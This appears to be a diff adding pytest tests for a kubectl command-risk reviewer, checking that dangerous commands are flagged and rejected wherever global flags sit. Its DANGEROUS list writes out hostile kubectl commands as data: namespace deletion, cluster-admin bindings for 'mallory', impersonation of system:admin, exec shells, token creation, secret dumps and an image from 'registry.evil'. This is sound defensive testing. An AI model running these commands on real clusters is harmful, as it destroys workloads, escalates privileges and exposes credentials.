@@ -122,3 +122,124 @@ def test_the_provenance_excerpt_is_scanned_for_injection_too() -> None:
     result = _panel(req)
     assert PROMPT_INJECTION in result.flags  # type: ignore[attr-defined]
     assert "source" in req.to_dict() and req.to_dict()["source"]["inputTrust"] == "Untrusted"
+
+
+# --------------------------------------------------------------------------- kubectl's grammar
+
+# Global options kubectl accepts anywhere, harmless to the rating, in every spelling.
+NEUTRAL_FLAGS = [["-n", "apps"], ["-napps"], ["--namespace", "apps"], ["--namespace=apps"],
+                 ["--request-timeout", "5s"], ["--request-timeout=5s"], ["-v", "2"], ["--v=2"],
+                 ["--warnings-as-errors"], ["--match-server-version"], ["--cache-dir", "/tmp/c"],
+                 ["--log-flush-frequency=5s"], ["--vmodule", "x=2"], ["--profile=none"]]
+# (command, lowest acceptable risk, destructive): the review must rate at least that high, and
+# flag Destructive when it says so, wherever kubectl's global options are put.
+DANGEROUS = [
+    ("kubectl delete ns prod", Risk.CRITICAL, True),
+    ("kubectl delete namespace prod", Risk.CRITICAL, True),
+    ("kubectl delete deployment web", Risk.CRITICAL, True),
+    ("kubectl scale deployment/web --replicas 0", Risk.HIGH, True),
+    ("kubectl scale deployment/web --replicas=0", Risk.HIGH, True),
+    ("kubectl scale deployment/web --replicas=000", Risk.HIGH, True),
+    ("kubectl scale --replicas 0 deployment/web", Risk.HIGH, True),
+    ("kubectl get pods --as=system:admin", Risk.CRITICAL, True),
+    ("kubectl get pods --as system:admin", Risk.CRITICAL, True),
+    ("kubectl get pods --as-group=system:masters", Risk.CRITICAL, True),
+    ("kubectl create clusterrolebinding pwn --clusterrole=cluster-admin --user=mallory",
+     Risk.CRITICAL, True),
+    ("kubectl create clusterrolebinding pwn --clusterrole cluster-admin --serviceaccount a:b",
+     Risk.CRITICAL, True),
+    ("kubectl create rolebinding pwn --clusterrole=admin --user=mallory", Risk.CRITICAL, True),
+    ("kubectl create rolebinding r --role=viewer --group=system:masters", Risk.CRITICAL, True),
+    ("kubectl create rolebinding r --role=viewer --user=alice", Risk.HIGH, True),
+    ("kubectl set image deployment/web web=registry.evil/web:latest", Risk.HIGH, True),
+    ("kubectl set env deployment/web LD_PRELOAD=/x", Risk.HIGH, True),
+    ("kubectl set serviceaccount deployment/web admin", Risk.HIGH, True),
+    ("kubectl exec web -- sh", Risk.CRITICAL, True),
+    ("kubectl create token default", Risk.CRITICAL, True),
+    ("kubectl get secret db -o yaml", Risk.HIGH, True),
+    ("kubectl delete pod web --grace-period 0 --force", Risk.CRITICAL, True),
+    ("kubectl label ns prod pod-security.kubernetes.io/enforce=privileged", Risk.HIGH, True),
+    ("kubectl rollout restart deployment/web --context=prod-admin", Risk.HIGH, True),
+    ("kubectl rollout restart deployment/web --kubeconfig /tmp/stolen", Risk.HIGH, True),
+    ("kubectl rollout restart deployment/web -s https://other:6443", Risk.HIGH, True),
+    ("kubectl rollout restart deployment/web --token=abc", Risk.HIGH, True),
+    ("kubectl certificate approve csr-1", Risk.CRITICAL, True),
+    ("kubectl apply --prune -f x.yaml", Risk.CRITICAL, True),
+    ("kubectl frobnicate deployment/web", Risk.HIGH, True),
+]
+
+
+def _variants(command: str) -> list[str]:
+    """``command`` with each neutral global option inserted at every position after kubectl."""
+    argv = command.split()
+    out = []
+    for flag in NEUTRAL_FLAGS:
+        for at in range(1, len(argv) + 1):
+            if at < len(argv) and argv[at - 1].startswith("--") and "=" not in argv[at - 1] \
+                    and not argv[at].startswith("-"):
+                continue  # never between a flag and its value
+            out.append(" ".join([*argv[:at], *flag, *argv[at:]]))
+    return out
+
+
+@pytest.mark.parametrize(("command", "at_least", "destructive"), DANGEROUS,
+                         ids=[c for c, _, _ in DANGEROUS])
+def test_dangerous_commands_are_rated_wherever_the_global_flags_go(
+        command: str, at_least: Risk, destructive: bool) -> None:
+    for variant in [command, *_variants(command)]:
+        risk, reasons = command_risk(variant)
+        assert risk >= at_least, (variant, risk, reasons)
+        votes = asyncio.run(builtin_panel(allowed, ("destructive",))[0].review(
+            ReviewInput("ns", "r", "test", "alice", "do it", (variant,))))
+        assert (PROMPT_INJECTION not in votes.flags)
+        assert ("Destructive" in votes.flags) is destructive, variant
+        assert votes.verdict is Verdict.REJECT
+
+
+ROUTINE = [
+    ("kubectl rollout restart deployment/web", Risk.LOW),
+    ("kubectl rollout status deployment/web", Risk.LOW),
+    ("kubectl get pods", Risk.LOW),
+    ("kubectl logs deployment/web --tail 100", Risk.LOW),
+    ("kubectl scale deployment/web --replicas 3", Risk.MEDIUM),
+    ("kubectl scale deployment/web --replicas=10", Risk.MEDIUM),
+]
+
+
+@pytest.mark.parametrize(("command", "at_most"), ROUTINE, ids=[c for c, _ in ROUTINE])
+def test_routine_commands_stay_routine_wherever_the_global_flags_go(command: str,
+                                                                    at_most: Risk) -> None:
+    for variant in [command, *_variants(command)]:
+        risk, reasons = command_risk(variant)
+        assert risk <= at_most, (variant, risk, reasons)
+
+
+def test_an_unknown_flag_cannot_hide_the_verb() -> None:
+    for command in ("kubectl --frobnicate delete ns prod", "kubectl --x=1 --y delete ns prod",
+                    "kubectl -Z delete ns prod"):
+        risk, reasons = command_risk(command)
+        assert risk is Risk.CRITICAL, (command, reasons)
+
+
+def test_the_subject_of_a_binding_is_not_the_callers_identity() -> None:
+    _, reasons = command_risk("kubectl create rolebinding r --role=viewer --user=alice")
+    assert not any("another identity" in r for r in reasons)
+    _, reasons = command_risk("kubectl get pods --user=admin")
+    assert any("--user acts as another identity" in r for r in reasons)
+
+
+@pytest.mark.parametrize(("command", "risk"), [
+    ("kubectl -n kube-system rollout restart deployment/coredns", Risk.CRITICAL),
+    ("kubectl -nkube-system rollout restart deployment/coredns", Risk.CRITICAL),
+    ("kubectl --namespace=kube-system rollout restart deployment/coredns", Risk.CRITICAL),
+    ("kubectl -A rollout restart deployment", Risk.HIGH),
+    ("kubectl delete ns prod", Risk.HIGH),
+    ("kubectl cordon no/node-1", Risk.HIGH),
+    ("kubectl create clusterrolebinding x --clusterrole=view --user=a", Risk.HIGH),
+    ("kubectl get clusterroles.rbac.authorization.k8s.io", Risk.HIGH),
+    ("kubectl -n apps rollout restart deployment/web", Risk.LOW),
+])
+def test_blast_radius_reads_the_parsed_command(command: str, risk: Risk) -> None:
+    vote = asyncio.run(builtin_panel(allowed, ("blast-radius",))[0].review(
+        ReviewInput("ns", "r", "test", "alice", "do it", (command,))))
+    assert vote.risk is risk, (command, vote.rationale)
